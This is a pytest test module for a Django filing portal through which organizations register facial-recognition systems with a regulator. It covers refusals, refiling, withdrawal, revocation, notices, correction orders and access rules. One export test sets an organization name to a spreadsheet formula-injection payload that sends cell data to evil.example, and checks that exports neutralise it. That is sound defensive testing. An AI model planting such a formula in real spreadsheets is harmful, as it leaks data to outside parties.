"""Every way a filing can go off the happy path: refused and filed again, withdrawn, revoked;
the materials a submission must carry; what each notice says comes next; the organizations that
have not filed and the orders to correct them; the messages between office and organization.
Each path is walked through the verbs and the pages, with the access rules of every new URL."""

import copy
import io
import zipfile
from datetime import date

import pytest
import time_machine
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from pypdf import PdfReader

from filings.documents import attachments
from filings.law import materials
from filings.lifecycle import obligations, reminders, services
from filings.models import (
    CorrectionOrder,
    Document,
    Filing,
    FilingEvent,
    Obligation,
    Reminder,
)
from tests.factories import MembershipFactory, UserFactory, reviewer_of, sign_in
from tests.filing_data import complete_filing, mark_complete
from tests.pdfs import pdf_bytes

pytestmark = pytest.mark.django_db
TODAY = date(2026, 3, 2)
S = Filing.Status


@pytest.fixture(autouse=True)
def _frozen_today():
    with time_machine.travel(TODAY, tick=False):
        yield


def pdf_text(content: bytes) -> str:
    pages = PdfReader(io.BytesIO(content)).pages
    return " ".join(page.extract_text() for page in pages).replace("\n", " ")


def read_document(document) -> str:
    with document.file.open("rb") as handle:
        return pdf_text(handle.read())


def member_in(address="440300", language="zh-hans", people=12_000):
    membership = MembershipFactory(
        role="admin", organization__address_division=address, user__language=language
    )
    obligations.declare_system(
        membership.organization,
        membership.user,
        name="门禁系统",
        people_stored=people,
        used_in_public_place=False,
        count_reached_on=date(2026, 2, 2),
    )
    return membership


@pytest.fixture
def member():
    return member_in()


def upload(filing, user, kind="assessment_report"):
    return attachments.store(filing, user, kind, SimpleUploadedFile(f"{kind}.pdf", pdf_bytes()))


def submitted(member, capture) -> Filing:
    filing = services.start_initial_filing(member.organization, member.user)
    data = copy.deepcopy(complete_filing())
    data["organization"]["name"] = member.organization.name
    data["organization"]["uscc"] = member.organization.uscc
    filing.data = data
    mark_complete(filing)
    upload(filing, member.user)
    with capture(execute=True):
        services.submit_filing(filing.pk, member.user)
    filing.refresh_from_db()
    return filing


def initial_duty(member) -> Obligation:
    return member.organization.obligations.get(kind=Obligation.Kind.INITIAL)


def page(client, url) -> str:
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    return response.content.decode()


def dashboard_url(member):
    return reverse("dashboard", args=[member.organization.pk])


def detail_url(member, filing):
    return reverse("filing_detail", args=[member.organization.pk, filing.pk])


# --- Refusal, and filing again -------------------------------------------------------------------


def test_a_refusal_reopens_the_duty_with_its_original_deadline_and_reminders_resume(
    member, city_reviewer, django_capture_on_commit_callbacks
):
    filing = submitted(member, django_capture_on_commit_callbacks)
    duty = initial_duty(member)
    deadline = duty.deadline
    assert duty.status == Obligation.Status.FULFILLED

    with django_capture_on_commit_callbacks(execute=True):
        services.refuse_filing(filing.pk, city_reviewer, "在更衣室部署了摄像头。")

    duty.refresh_from_db()
    assert duty.status == Obligation.Status.OPEN
    assert duty.deadline == deadline  # the original deadline stands
    assert duty.closed_at is None
    assert duty.next_reminder_on is not None
    # Past the deadline the sweep sends the overdue reminder for the reopened duty.
    later = date(2026, 4, 20)
    assert later > deadline
    with time_machine.travel(later, tick=False):
        mail.outbox.clear()
        with django_capture_on_commit_callbacks(execute=True):
            assert reminders.sweep(later) == 1
    reminder = Reminder.objects.get(obligation=duty)
    assert reminder.kind.startswith("overdue_")
    assert any(member.user.email in message.to for message in mail.outbox)


def test_the_dashboard_says_what_was_refused_and_why_and_offers_to_file_again(
    client, member, city_reviewer, django_capture_on_commit_callbacks
):
    filing = submitted(member, django_capture_on_commit_callbacks)
    with django_capture_on_commit_callbacks(execute=True):
        services.refuse_filing(filing.pk, city_reviewer, "在更衣室部署了摄像头。")
    sign_in(client, member.user)
    html = page(client, dashboard_url(member))
    assert "在更衣室部署了摄像头。" in html
    assert filing.receipt_number in html
    assert "不予备案" in html
    assert reverse("filing_refile", args=[member.organization.pk, filing.pk]) in html
    assert initial_duty(member).deadline.isoformat() in html
    # Not the untrue "your systems do not require a filing" of before.
    assert "无需备案" not in html


def test_filing_again_starts_from_the_refused_content_and_ends_filed(
    client, member, city_reviewer, django_capture_on_commit_callbacks
):
    refused = submitted(member, django_capture_on_commit_callbacks)
    with django_capture_on_commit_callbacks(execute=True):
        services.refuse_filing(refused.pk, city_reviewer, "请补充保存期限。")
    sign_in(client, member.user)

    response = client.post(reverse("filing_refile", args=[member.organization.pk, refused.pk]))
    again = Filing.objects.exclude(pk=refused.pk).get()
    assert response["Location"] == reverse(
        "filing_step", args=[member.organization.pk, again.pk, "review"]
    )
    assert again.status == S.DRAFT
    assert again.refiled_from == refused
    assert again.duty == initial_duty(member)
    assert again.deadline == initial_duty(member).deadline
    submitted_content = refused.versions.get().data
    assert again.data["purpose"] == submitted_content["purpose"]
    assert "declaration" not in again.data  # declared afresh
    assert [a.kind for a in services.current_attachments(again)] == ["assessment_report"]
    refused.refresh_from_db()
    assert refused.status == S.REFUSED  # the refused filing stays as it was

    # A second click finds the same draft.
    client.post(reverse("filing_refile", args=[member.organization.pk, refused.pk]))
    assert Filing.objects.count() == 2

    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("filing_step", args=[member.organization.pk, again.pk, "review"]),
            {"truthful": "on"},
        )
    again.refresh_from_db()
    assert again.status == S.SUBMITTED
    assert initial_duty(member).status == Obligation.Status.FULFILLED
    with django_capture_on_commit_callbacks(execute=True):
        services.approve_filing(again.pk, city_reviewer)
    again.refresh_from_db()
    assert again.status == S.FILED
    html = page(client, dashboard_url(member))
    assert again.filing_number in html


def test_only_an_editor_of_the_organization_may_file_again(
    client, member, city_reviewer, django_capture_on_commit_callbacks
):
    refused = submitted(member, django_capture_on_commit_callbacks)
    services.refuse_filing(refused.pk, city_reviewer, "理由")
    url = reverse("filing_refile", args=[member.organization.pk, refused.pk])
    client.force_login(MembershipFactory().user)  # another organization
    assert client.post(url).status_code == 404
    viewer = MembershipFactory(organization=member.organization, role="viewer")
    sign_in(client, viewer.user)
    assert client.post(url).status_code == 403
    assert Filing.objects.count() == 1


def test_a_filed_filing_cannot_be_filed_again(
    member, city_reviewer, django_capture_on_commit_callbacks
):
    filing = submitted(member, django_capture_on_commit_callbacks)
    services.approve_filing(filing.pk, city_reviewer)
    with pytest.raises(services.FilingError):
        services.start_refiling(Filing.objects.get(pk=filing.pk), member.user)


# --- What the notices say comes next -------------------------------------------------------------


def test_the_refusal_notice_email_and_page_say_what_next_by_when_and_the_remedies(
    client, member, city_reviewer, django_capture_on_commit_callbacks
):
    filing = submitted(member, django_capture_on_commit_callbacks)
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        services.refuse_filing(filing.pk, city_reviewer, "在更衣室部署了摄像头。")
    deadline = initial_duty(member).deadline.isoformat()

    notice = Document.objects.get(filing=filing, kind=Document.Kind.REFUSAL_NOTICE)
    text = read_document(notice)
    assert "不予备案通知书" in text
    assert deadline in text
    assert "行政复议" in text
    assert "60" in text
    assert "行政诉讼" in text
    assert "6" in text

    email = next(m for m in mail.outbox if member.user.email in m.to)
    assert deadline in email.body
    assert "行政复议" in email.body
    assert "60" in email.body
    assert "行政诉讼" in email.body
    assert email.attachments
    assert email.attachments[0][0].endswith(".pdf")
    html_body = email.alternatives[0][0]
    assert "行政复议" in html_body

    sign_in(client, member.user)
    html = page(client, detail_url(member, filing))
    assert "行政复议" in html
    assert deadline in html
    assert "在更衣室部署了摄像头。" in html


def test_the_refusal_notice_in_english_names_the_remedies(
    city_reviewer, django_capture_on_commit_callbacks
):
    member = member_in(language="en")
    filing = submitted(member, django_capture_on_commit_callbacks)
    with django_capture_on_commit_callbacks(execute=True):
        services.refuse_filing(filing.pk, city_reviewer, "Cameras in a fitting room.")
    notice = Document.objects.get(filing=filing, kind=Document.Kind.REFUSAL_NOTICE)
    text = read_document(notice)
    assert "administrative reconsideration within 60 days" in text
    assert "administrative suit" in text
    assert "6 months" in text


def test_the_return_notice_says_what_to_do_and_by_when(
    client, member, city_reviewer, django_capture_on_commit_callbacks
):
    filing = submitted(member, django_capture_on_commit_callbacks)
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        services.return_filing(filing.pk, city_reviewer, "请补充保存期限。")
    filing.refresh_from_db()
    date_text = filing.correction_deadline.isoformat()
    notice = Document.objects.get(filing=filing, kind=Document.Kind.RETURN_NOTICE)
    text = read_document(notice)
    assert date_text in text
    assert "再次提交" in text
    email = next(m for m in mail.outbox if member.user.email in m.to)
    assert date_text in email.body
    sign_in(client, member.user)
    assert date_text in page(client, detail_url(member, filing))


# --- Withdrawal ----------------------------------------------------------------------------------


def test_a_submitted_filing_is_withdrawn_with_a_reason_and_leaves_the_office_queue(
    client, member, city_reviewer, django_capture_on_commit_callbacks
):
    filing = submitted(member, django_capture_on_commit_callbacks)
    sign_in(client, city_reviewer)
    assert filing.receipt_number in page(client, reverse("admin:filings_filing_changelist"))

    sign_in(client, member.user)
    url = reverse("filing_withdraw", args=[member.organization.pk, filing.pk])
    client.post(url, {"reason": ""})
    filing.refresh_from_db()
    assert filing.status == S.SUBMITTED  # a reason is required

    with django_capture_on_commit_callbacks(execute=True):
        client.post(url, {"reason": "提交了错误的系统数量。"})
    filing.refresh_from_db()
    assert filing.status == S.WITHDRAWN
    assert filing.withdrawn_at is not None
    event = filing.events.get(action=FilingEvent.Action.WITHDRAWN)
    assert event.note == "提交了错误的系统数量。"
    assert event.actor == member.user
    assert initial_duty(member).status == Obligation.Status.OPEN
    html = page(client, dashboard_url(member))
    assert "提交了错误的系统数量。" in html
    assert "撤回" in html

    sign_in(client, city_reviewer)
    assert filing.receipt_number not in page(client, reverse("admin:filings_filing_changelist"))
    change = reverse("admin:filings_filing_change", args=[filing.pk])
    assert client.get(change).status_code == 404


def test_a_filing_under_review_can_no_longer_be_withdrawn(
    client, member, city_reviewer, django_capture_on_commit_callbacks
):
    filing = submitted(member, django_capture_on_commit_callbacks)
    services.start_review(filing.pk, city_reviewer)
    sign_in(client, member.user)
    html = page(client, detail_url(member, filing))
    assert reverse("filing_withdraw", args=[member.organization.pk, filing.pk]) not in html
    client.post(
        reverse("filing_withdraw", args=[member.organization.pk, filing.pk]), {"reason": "错"}
    )
    filing.refresh_from_db()
    assert filing.status == S.UNDER_REVIEW
    assert initial_duty(member).status == Obligation.Status.FULFILLED


def test_withdrawal_is_for_the_organizations_editors_only(
    client, member, django_capture_on_commit_callbacks
):
    filing = submitted(member, django_capture_on_commit_callbacks)
    url = reverse("filing_withdraw", args=[member.organization.pk, filing.pk])
    sign_in(client, MembershipFactory().user)
    assert client.post(url, {"reason": "x"}).status_code == 404
    sign_in(client, MembershipFactory(organization=member.organization, role="viewer").user)
    assert client.post(url, {"reason": "x"}).status_code == 403
    assert Filing.objects.get(pk=filing.pk).status == S.SUBMITTED


# --- Materials -----------------------------------------------------------------------------------


def test_the_materials_table_lists_the_eight_materials_and_requires_per_rule_set():
    assert len(materials.MATERIALS) == 8
    assert {m.kind for m in materials.MATERIALS if m.generated} == {"filing_form", "system_form"}
    assert materials.required_kinds("cac-2023-draft") == {"assessment_report"}
    assert materials.required_kinds("cac-2025-measures") == {m.kind for m in materials.UPLOADED}


def test_under_the_2025_measures_submission_is_refused_with_the_list_of_missing_materials(
    client, settings, django_capture_on_commit_callbacks
):
    settings.FILING_REGIME = "cac-2025-measures"
    member = member_in(people=150_000)
    filing = services.start_initial_filing(member.organization, member.user)
    assert filing.regime == "cac-2025-measures"
    data = copy.deepcopy(complete_filing())
    data["facial_data"]["people_stored"] = 150_000
    filing.data = data
    mark_complete(filing)
    upload(filing, member.user)
    sign_in(client, member.user)
    review = reverse("filing_step", args=[member.organization.pk, filing.pk, "review"])
    response = client.post(review, {"truthful": "on"})
    html = response.content.decode()
    filing.refresh_from_db()
    assert filing.status == S.DRAFT
    for kind in ("uscc_certificate", "legal_representative_id", "handler_id"):
        with translation.override("zh-hans"):
            assert str(materials.BY_KIND[kind].label) in html
    assert "未附" in html or "is not attached" in html

    step = page(
        client, reverse("filing_step", args=[member.organization.pk, filing.pk, "assessment"])
    )
    assert step.count("缺少") == 5  # five required materials are still missing

    for material in materials.UPLOADED:
        if material.kind != "assessment_report":
            upload(filing, member.user, material.kind)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(review, {"truthful": "on"})
    filing.refresh_from_db()
    assert filing.status == S.SUBMITTED
    kinds = {item["kind"] for item in filing.versions.get().attachments}
    assert kinds == {m.kind for m in materials.UPLOADED}


def test_the_letters_are_offered_prefilled_as_pdfs_to_the_organization_only(client, member):
    filing = services.start_initial_filing(member.organization, member.user)
    sign_in(client, member.user)
    step = page(
        client, reverse("filing_step", args=[member.organization.pk, filing.pk, "assessment"])
    )
    for kind in ("authorisation_letter", "commitment_letter"):
        url = reverse("filing_letter", args=[member.organization.pk, filing.pk, kind])
        assert url in step
        response = client.get(url)
        assert response.status_code == 200
        assert response["Content-Type"] == "application/pdf"
        text = pdf_text(b"".join(response.streaming_content))
        assert member.organization.name in text
        assert member.organization.uscc in text
        assert "盖章" in text
    bogus = reverse("filing_letter", args=[member.organization.pk, filing.pk, "other"])
    assert client.get(bogus).status_code == 404
    sign_in(client, MembershipFactory().user)
    url = reverse("filing_letter", args=[member.organization.pk, filing.pk, "commitment_letter"])
    assert client.get(url).status_code == 404


# --- Revocation ----------------------------------------------------------------------------------


def test_a_revoked_filing_stops_verifying_and_the_duty_reopens(
    client, member, city_reviewer, django_capture_on_commit_callbacks
):
    filing = submitted(member, django_capture_on_commit_callbacks)
    with django_capture_on_commit_callbacks(execute=True):
        services.approve_filing(filing.pk, city_reviewer)
    filing.refresh_from_db()
    verify = reverse("verify") + "?number=" + filing.filing_number
    assert "有效" in page(client, verify)

    sign_in(client, city_reviewer)
    decide = reverse("admin:filings_filing_decide", args=[filing.pk])
    client.post(decide, {"verb": "revoke", "reasons": ""})
    assert Filing.objects.get(pk=filing.pk).status == S.FILED  # reasons are required
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(decide, {"verb": "revoke", "reasons": "申报的存储数量与核查结果不符。"})
    filing.refresh_from_db()
    assert filing.status == S.REVOKED
    assert filing.revoked_at is not None
    assert initial_duty(member).status == Obligation.Status.OPEN

    client.logout()
    html = page(client, verify)
    assert "已撤销" in html
    assert "2026-03-02" in html
    assert "verify-revoked" in html

    email = next(m for m in mail.outbox if member.user.email in m.to)
    assert "申报的存储数量与核查结果不符。" in email.body
    name, content, mime = email.attachments[0]
    assert mime == "application/pdf"
    text = pdf_text(content)
    assert "撤销" in text
    assert filing.filing_number in text
    assert "行政复议" in text

    sign_in(client, member.user)
    html = page(client, dashboard_url(member))
    assert "申报的存储数量与核查结果不符。" in html
    assert reverse("filing_refile", args=[member.organization.pk, filing.pk]) in html


def test_only_a_reviewer_of_the_office_can_revoke(
    client, member, city_reviewer, other_city_reviewer, django_capture_on_commit_callbacks
):
    filing = submitted(member, django_capture_on_commit_callbacks)
    services.approve_filing(filing.pk, city_reviewer)
    decide = reverse("admin:filings_filing_decide", args=[filing.pk])
    sign_in(client, other_city_reviewer)
    assert client.post(decide, {"verb": "revoke", "reasons": "x"}).status_code == 404
    sign_in(client, member.user)
    client.post(decide, {"verb": "revoke", "reasons": "x"})
    assert Filing.objects.get(pk=filing.pk).status == S.FILED


# --- Organizations that have not filed, and orders to correct ------------------------------------


@pytest.fixture
def late_organizations():
    shenzhen = member_in("440300")
    guangzhou = member_in("440100")
    on_time = MembershipFactory(organization__address_division="440300")
    obligations.declare_system(
        on_time.organization,
        on_time.user,
        name="新系统",
        people_stored=20_000,
        used_in_public_place=False,
        count_reached_on=date(2026, 2, 27),
    )
    return shenzhen, guangzhou, on_time


def test_the_overdue_list_shows_the_reviewers_jurisdiction_only_and_exports(
    client, city_reviewer, late_organizations
):
    shenzhen, guangzhou, on_time = late_organizations
    later = date(2026, 4, 20)
    with time_machine.travel(later, tick=False):
        sign_in(client, city_reviewer)
        html = page(client, reverse("admin:filings_overdueduty_changelist"))
        assert shenzhen.organization.name in html
        assert "门禁系统" in html
        assert guangzhou.organization.name not in html
        assert initial_duty(shenzhen).deadline.isoformat() in html
        response = client.get(reverse("admin:filings_overdueduty_export_csv"))
        body = response.content.decode("utf-8-sig")
        assert shenzhen.organization.name in body
        assert guangzhou.organization.name not in body
        assert response.status_code == 200
        response = client.get(reverse("admin:filings_overdueduty_export_xlsx"))
        assert response.status_code == 200
        assert response.content[:2] == b"PK"
    # Before the deadline nobody is listed.
    html = page(client, reverse("admin:filings_overdueduty_changelist"))
    assert shenzhen.organization.name not in html


def test_the_overdue_exports_write_a_name_like_a_formula_as_text(
    client, city_reviewer, late_organizations
):
    """Every spreadsheet the portal writes goes through filings.documents.spreadsheets (#30)."""
    shenzhen = late_organizations[0].organization
    shenzhen.name = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
    shenzhen.save(update_fields=["name"])
    with time_machine.travel(date(2026, 4, 20), tick=False):
        sign_in(client, city_reviewer)
        body = client.get(reverse("admin:filings_overdueduty_export_csv")).content.decode()
        assert "'=HYPERLINK" in body
        content = client.get(reverse("admin:filings_overdueduty_export_xlsx")).content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "HYPERLINK" in sheet


def test_an_order_to_correct_is_recorded_emailed_and_shown_to_the_organization(
    client,
    city_reviewer,
    other_city_reviewer,
    late_organizations,
    django_capture_on_commit_callbacks,
):
    shenzhen, guangzhou, _on_time = late_organizations
    duty = initial_duty(shenzhen)
    later = date(2026, 4, 20)
    with time_machine.travel(later, tick=False):
        url = reverse("admin:filings_overdueduty_order", args=[duty.pk])
        sign_in(client, other_city_reviewer)
        assert client.get(url).status_code == 404
        assert client.post(url, {"correct_by": "2026-05-06"}).status_code == 404
        sign_in(client, shenzhen.user)
        assert client.post(url, {"correct_by": "2026-05-06"}).status_code == 302  # to login
        assert not CorrectionOrder.objects.exists()

        sign_in(client, city_reviewer)
        page(client, url)
        response = client.post(url, {"correct_by": "2026-04-01"})
        assert response.status_code == 200  # a date in the past is refused in words
        assert not CorrectionOrder.objects.exists()
        mail.outbox.clear()
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(url, {"correct_by": "2026-05-06", "note": "请立即备案。"})
        assert response.status_code == 302
        order = CorrectionOrder.objects.get()
        assert (order.obligation, order.issued_by) == (duty, city_reviewer)
        assert order.ordered_on == later
        assert order.correct_by == date(2026, 5, 6)
        email = next(m for m in mail.outbox if shenzhen.user.email in m.to)
        assert "2026-05-06" in email.body

        sign_in(client, shenzhen.user)
        html = page(client, dashboard_url(shenzhen))
        assert "责令改正" in html
        assert "2026-05-06" in html
        assert "请立即备案。" in html
        sign_in(client, guangzhou.user)
        assert "2026-05-06" not in page(client, dashboard_url(guangzhou))


def test_an_order_to_correct_is_refused_for_a_duty_not_yet_due(city_reviewer, late_organizations):
    shenzhen, _guangzhou, _on_time = late_organizations
    with pytest.raises(services.FilingError):
        services.order_correction(initial_duty(shenzhen).pk, city_reviewer, date(2026, 5, 6))


# --- Messages ------------------------------------------------------------------------------------


def test_office_and_organization_write_to_each_other_on_a_filing(
    client, member, city_reviewer, other_city_reviewer, django_capture_on_commit_callbacks
):
    filing = submitted(member, django_capture_on_commit_callbacks)
    sign_in(client, city_reviewer)
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("admin:filings_filing_message", args=[filing.pk]),
            {"body": "评估报告的日期是否正确？"},
        )
    filing.refresh_from_db()
    assert filing.status == S.SUBMITTED  # a question does not return the filing
    assert any(
        member.user.email in m.to and "评估报告的日期是否正确？" in m.body for m in mail.outbox
    )

    sign_in(client, member.user)
    html = page(client, detail_url(member, filing))
    assert "评估报告的日期是否正确？" in html
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("filing_message", args=[member.organization.pk, filing.pk]),
            {"body": "日期正确，是 2026 年 1 月。"},
        )
    assert [m.to for m in mail.outbox] == [[city_reviewer.email]]
    assert "日期正确" in mail.outbox[0].body

    actions = list(filing.events.values_list("action", flat=True))
    assert FilingEvent.Action.MESSAGE_FROM_OFFICE in actions
    assert FilingEvent.Action.MESSAGE_FROM_ORGANIZATION in actions
    sign_in(client, city_reviewer)
    html = page(client, reverse("admin:filings_filing_change", args=[filing.pk]))
    assert "日期正确，是 2026 年 1 月。" in html

    # Nobody else can write on it.
    sign_in(client, other_city_reviewer)
    url = reverse("admin:filings_filing_message", args=[filing.pk])
    assert client.post(url, {"body": "x"}).status_code == 404
    sign_in(client, MembershipFactory().user)
    url = reverse("filing_message", args=[member.organization.pk, filing.pk])
    assert client.post(url, {"body": "x"}).status_code == 404
    assert filing.events.filter(action__startswith="message").count() == 2


def test_an_empty_or_overlong_message_is_refused_in_words(
    member, django_capture_on_commit_callbacks
):
    filing = submitted(member, django_capture_on_commit_callbacks)
    for body in ("  ", "字" * (services.MAX_MESSAGE + 1)):
        with pytest.raises(services.FilingError):
            services.post_message(filing.pk, member.user, body, from_office=False)


# --- Every state in words ------------------------------------------------------------------------


@pytest.mark.parametrize("language", ["zh-hans", "en"])
def test_every_status_of_a_filing_and_a_duty_has_words_in_both_languages(language):
    with translation.override(language):
        for _value, label in [*Filing.Status.choices, *Obligation.Status.choices]:
            text = str(label)
            assert text
            if language == "zh-hans":
                assert not text.isascii(), text


def test_a_withdrawn_filing_shows_its_state_in_words_on_every_page(
    client, member, city_reviewer, django_capture_on_commit_callbacks
):
    filing = submitted(member, django_capture_on_commit_callbacks)
    services.withdraw_filing(filing.pk, member.user, "重新核对数量")
    sign_in(client, member.user)
    for url in (dashboard_url(member), detail_url(member, filing)):
        assert "已撤回" in page(client, url)
    client.cookies.load({"portal_language": "en"})
    for url in (dashboard_url(member), detail_url(member, filing)):
        assert "Withdrawn" in page(client, url)


def test_the_system_information_form_is_made_by_the_portal_for_filer_and_office_only(
    client, member, city_reviewer, other_city_reviewer, django_capture_on_commit_callbacks
):
    filing = submitted(member, django_capture_on_commit_callbacks)
    filer_url = reverse("filing_letter", args=[member.organization.pk, filing.pk, "system_form"])
    office_url = reverse("admin:filings_filing_system_form", args=[filing.pk])
    sign_in(client, member.user)
    response = client.get(filer_url)
    text = pdf_text(b"".join(response.streaming_content))
    assert "人脸识别技术应用系统信息表" in text
    assert "门禁系统" in text  # the declared system
    assert "12,000" in text or "12000" in text
    sign_in(client, city_reviewer)
    response = client.get(office_url)
    assert response["Content-Type"] == "application/pdf"
    assert "门禁系统" in pdf_text(b"".join(response.streaming_content))
    sign_in(client, other_city_reviewer)
    assert client.get(office_url).status_code == 404
    sign_in(client, MembershipFactory().user)
    assert client.get(filer_url).status_code == 404


def test_a_refused_change_is_filed_again_from_its_content_and_answers_the_change_duty(
    member, city_reviewer, django_capture_on_commit_callbacks
):
    original = submitted(member, django_capture_on_commit_callbacks)
    services.approve_filing(original.pk, city_reviewer)
    original.refresh_from_db()
    change = services.start_follow_up(original, member.user, Filing.Kind.CHANGE)
    services.save_step(
        change,
        member.user,
        "change",
        {"description": "新增一个门店", "effective_date": "2026-02-20"},
    )
    services.save_step(change, member.user, "declaration", {"truthful": True})
    change.refresh_from_db()
    duty = change.duty
    assert duty.kind == Obligation.Kind.CHANGE
    with django_capture_on_commit_callbacks(execute=True):
        services.submit_filing(change.pk, member.user)
    duty.refresh_from_db()
    assert duty.status == Obligation.Status.FULFILLED
    with django_capture_on_commit_callbacks(execute=True):
        services.refuse_filing(change.pk, city_reviewer, "变更内容不清楚。")
    duty.refresh_from_db()
    assert duty.status == Obligation.Status.OPEN

    again = services.start_refiling(Filing.objects.get(pk=change.pk), member.user)
    assert (again.kind, again.original, again.duty) == (Filing.Kind.CHANGE, original, duty)
    assert again.data["change"]["description"] == "新增一个门店"
    assert "change" in again.completed_steps
    assert services.compliance.errors(services.findings_for(again)) != []  # declaration only
    assert {f.code for f in services.compliance.errors(services.findings_for(again))} == {
        "not_declared_truthful"
    }


def test_the_log_of_orders_to_correct_is_scoped_to_the_office(
    client, city_reviewer, other_city_reviewer, late_organizations
):
    shenzhen, guangzhou, _on_time = late_organizations
    with time_machine.travel(date(2026, 4, 20), tick=False):
        services.order_correction(initial_duty(shenzhen).pk, city_reviewer, date(2026, 5, 6))
        gz_office = reviewer_of("440100", "gz2@cac.example")
        services.order_correction(initial_duty(guangzhou).pk, gz_office, date(2026, 5, 7))
    changelist = reverse("admin:filings_correctionorder_changelist")
    sign_in(client, city_reviewer)
    html = page(client, changelist)
    assert shenzhen.organization.name in html
    assert guangzhou.organization.name not in html
    order = CorrectionOrder.objects.get(organization=guangzhou.organization)
    change = reverse("admin:filings_correctionorder_change", args=[order.pk])
    assert client.get(change).status_code == 404
    sign_in(client, other_city_reviewer)
    assert client.get(change).status_code == 200
    sign_in(client, UserFactory(email="clerk@cac.example", is_staff=True))
    for url in (changelist, reverse("admin:filings_overdueduty_changelist")):
        assert client.get(url).status_code == 403
    sign_in(client, shenzhen.user)
    assert client.get(reverse("admin:filings_overdueduty_changelist")).status_code == 302


def test_a_change_of_a_revoked_filing_cannot_be_approved(
    member, city_reviewer, django_capture_on_commit_callbacks
):
    original = submitted(member, django_capture_on_commit_callbacks)
    services.approve_filing(original.pk, city_reviewer)
    change = services.start_follow_up(
        Filing.objects.get(pk=original.pk), member.user, Filing.Kind.CHANGE
    )
    services.save_step(
        change, member.user, "change", {"description": "新增门店", "effective_date": "2026-02-20"}
    )
    services.save_step(change, member.user, "declaration", {"truthful": True})
    services.submit_filing(change.pk, member.user)
    services.revoke_filing(original.pk, city_reviewer, "虚假申报。")
    with pytest.raises(services.FilingError):
        services.approve_filing(change.pk, city_reviewer)
    assert Filing.objects.get(pk=change.pk).status == S.SUBMITTED
    services.refuse_filing(change.pk, city_reviewer, "原备案已撤销。")
    change.refresh_from_db()
    assert change.status == S.REFUSED
    assert change.duty.status == Obligation.Status.FULFILLED  # no change is owed any more


def test_no_message_goes_to_the_office_on_a_withdrawn_filing(
    client, member, city_reviewer, django_capture_on_commit_callbacks
):
    filing = submitted(member, django_capture_on_commit_callbacks)
    services.withdraw_filing(filing.pk, member.user, "数量有误")
    sign_in(client, member.user)
    url = reverse("filing_message", args=[member.organization.pk, filing.pk])
    assert url not in page(client, detail_url(member, filing))
    mail.outbox.clear()
    client.post(url, {"body": "还在吗？"})
    assert not filing.events.filter(action__startswith="message").exists()
    assert mail.outbox == []
